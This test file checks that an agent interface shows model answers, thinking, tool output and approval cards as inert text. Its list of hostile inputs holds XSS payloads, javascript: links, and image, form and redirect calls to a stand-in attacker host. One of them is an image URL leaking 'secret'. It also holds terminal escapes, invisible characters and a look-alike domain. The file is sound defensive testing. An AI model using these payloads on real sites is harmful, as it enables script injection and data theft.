// What a model says and what a tool brings back is text: nothing of it runs, loads or leads away unseen.
import { AGENT } from './server';
import { done, expect, test, turn } from './test';

const HOSTILE = [
  '<script>window.hurt = 1</script>',
  '<img src=x onerror="window.hurt = 2">',
  '<svg onload="window.hurt = 3"><script>window.hurt = 4</script></svg>',
  '<iframe srcdoc="<script>parent.hurt = 5</script>"></iframe>',
  '<a href="javascript:window.hurt = 6">html link</a>',
  '<style>@import url(https://evil.example/a.css); body { display: none }</style>',
  '<form action="https://evil.example/"><button>press</button></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '[plain](javascript:window.hurt=7)',
  '[spaced](java\tscript:window.hurt=8)',
  '[data](data:text/html,<script>window.hurt=9</script>)',
  '[vb](vbscript:x) [file](file:///etc/passwd) [relative](/api/logout)',
  '![picture](https://evil.example/?q=secret)',
  '![data](data:image/svg+xml,<svg onload=alert(1)>)',
  '[good](https://example.com/page)',
  '[ref]: https://evil.example/x.css',
  '| a | b |\n|---|---|\n| <img src=y onerror=window.hurt=10> | `<script>window.hurt=11</script>` |',
  '```html\n<script>window.hurt = 12</script>\n```',
  '<math><mtext><table><mglyph><style><img src=z onerror=window.hurt=13></style></mglyph></table></mtext></math>',
].join('\n\n');

test('an answer, a thought and an output with markup in them stay what they are', async ({ page, serve, enter, trouble }) => {
  const server = await serve({
    script: [
      { text: HOSTILE, thinking: HOSTILE, pace_ms: 2, tool_calls: [{ name: 'Bash', input: { command: `cat hostile.txt # ${HOSTILE.replaceAll('\n', ' ')}` } }] },
      { text: 'The end.' },
    ],
    files: { 'hostile.txt': `${HOSTILE}\n\u001b]8;;https://evil.example/\u0007link\u001b]8;;\u0007\u001b[2J` },
  });
  const { sessionId, runId } = await server.begin(`Look at this: ${HOSTILE}`);
  await enter(server, page, `/sessions/${sessionId}`);
  await done(page);
  for (const folded of await turn(page).locator('summary').all()) await folded.click();
  const call = turn(page).getByRole('button', { name: /^bash/i });
  await expect(call).toHaveAttribute('aria-expanded', 'false');
  await call.click();
  await expect(turn(page).getByRole('group', { name: 'Output' })).toContainText('window.hurt = 1');

  const hurt = () => page.evaluate(() => (window as { hurt?: number }).hurt);
  expect(await hurt()).toBeUndefined();
  await expect(turn(page).locator('script, img, iframe, form, style, meta, object, embed')).toHaveCount(0);
  await expect(turn(page).locator('svg [onload], [onerror], [srcdoc]')).toHaveCount(0);
  const links = await turn(page).locator('.items a').evaluateAll((all) => all.map((link) => ({ href: link.getAttribute('href') ?? '', rel: link.getAttribute('rel') ?? '', target: link.getAttribute('target') })));
  const away = links.filter(({ href }) => !href.startsWith('/'));
  expect(away.length).toBeGreaterThan(0);
  for (const link of away) {
    expect(link.href).toMatch(/^https?:\/\//);
    expect(link.rel.split(' ')).toEqual(expect.arrayContaining(['noopener', 'noreferrer']));
    expect(link.target).toBe('_blank');
  }
  expect(links.filter(({ href }) => href === '/api/logout')).toEqual([]);
  // Where a link leads is seen before it is pressed.
  await expect(turn(page).getByRole('link', { name: /good/ }).first()).toContainText('example.com');

  await page.goto(`${server.url}/runs/${runId}`);
  const entries = page.getByRole('region', { name: 'Entries' }).getByRole('button');
  await expect(entries.nth(6)).toBeVisible();
  await entries.first().click();
  for (const entry of await entries.all()) {
    await entry.focus();
    await expect(entry).toHaveAttribute('aria-current', 'true');
  }
  await expect(page.getByRole('region', { name: 'Recorded' })).toBeVisible();
  expect(await hurt()).toBeUndefined();
  expect(trouble.requests.filter((url) => !url.startsWith(`${server.url}/`))).toEqual([]);
});

test('an approval shows what cannot be seen', async ({ page, serve, enter }) => {
  const server = await serve({ script: [{ text: 'I write.', tool_calls: [{ name: 'Write', input: { path: 'note.txt', content: 'harmless\u202e\u200b\n<img src=x onerror=window.hurt=1>' } }] }, { text: 'Done.' }] });
  const { runId } = await server.begin('Write');
  await server.until(runId, 'approval_asked');
  await enter(server, page, '/approvals');
  await page.getByRole('region', { name: 'List of approvals' }).getByRole('link').first().click();
  const card = page.getByRole('article', { name: /^Approval of/ });
  await expect(card).toContainText('\\u{202e}');
  await expect(card).toContainText('Contains invisible characters');
  await expect(card).toContainText(/\d+ characters, \d+ bytes, hash [0-9a-f]{12}/);
  await expect(card.locator('img')).toHaveCount(0);
});

test('an approval folds padding and names look-alike hosts', async ({ page, serve, enter }) => {
  const command = `touch note # https://ex\u0430mple.com${' '.repeat(3000)}ls`;
  const server = await serve({ files: { '.agentry/agents/helper/AGENT.md': AGENT.replace('    - { tool: Bash, allow: true }\n', '') }, script: [{ text: 'I look.', tool_calls: [{ name: 'Bash', input: { command } }] }, { text: 'Done.' }] });
  const { runId } = await server.begin('Look');
  await server.until(runId, 'approval_asked');
  await enter(server, page, '/approvals');
  await page.getByRole('region', { name: 'List of approvals' }).getByRole('link').first().click();
  const card = page.getByRole('article', { name: /^Approval of/ });
  await expect(card).toContainText('3000');
  await expect(card).toContainText('xn--');
});
